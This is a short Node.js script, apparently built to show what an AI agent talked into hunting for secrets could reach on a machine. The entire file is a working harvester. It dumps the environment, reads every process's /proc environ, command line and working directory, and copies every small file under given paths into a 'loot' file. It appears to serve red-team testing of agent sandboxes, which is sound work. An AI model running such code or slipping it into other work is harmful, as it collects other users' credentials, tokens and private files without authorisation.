// What an agent that is talked into looking for secrets could do: reads everything that it may of the processes of
// this machine and of the files below the paths that it is given, and writes it to the file `loot`.
// Arguments: the file for the loot, then the paths.
import { appendFileSync, lstatSync, readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { join } from 'node:path';

const [loot, ...paths] = process.argv.slice(2);
const take = (name, content) => appendFileSync(loot, `\n### ${name}\n${content}\n`);
const attempt = (name, read) => {
  try {
    take(name, read());
  } catch (error) {
    take(name, `(${error.code})`);
  }
};

take('environment', JSON.stringify(process.env));
let processes = 0;
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  processes += 1;
  for (const file of ['environ', 'cmdline', 'task/1/environ']) {
    attempt(`/proc/${pid}/${file}`, () => readFileSync(`/proc/${pid}/${file}`, 'latin1'));
  }
  attempt(`/proc/${pid}/cwd`, () => readdirSync(`/proc/${pid}/cwd`).join());
  attempt(`/proc/${pid}/root`, () => readlinkSync(`/proc/${pid}/root`));
}
take('processes', String(processes));

const skipped = new Set(['objects', 'node_modules', 'loot']);
const walk = (path) => {
  let stat;
  try {
    stat = lstatSync(path);
  } catch {
    return;
  }
  if (stat.isFile() && stat.size < 200_000) attempt(path, () => readFileSync(path, 'latin1'));
  if (!stat.isDirectory()) return;
  let names = [];
  try {
    names = readdirSync(path);
  } catch {
    // Not for us.
  }
  for (const name of names) if (!skipped.has(name)) walk(join(path, name));
};
for (const path of paths) walk(path);
console.log('looked around');
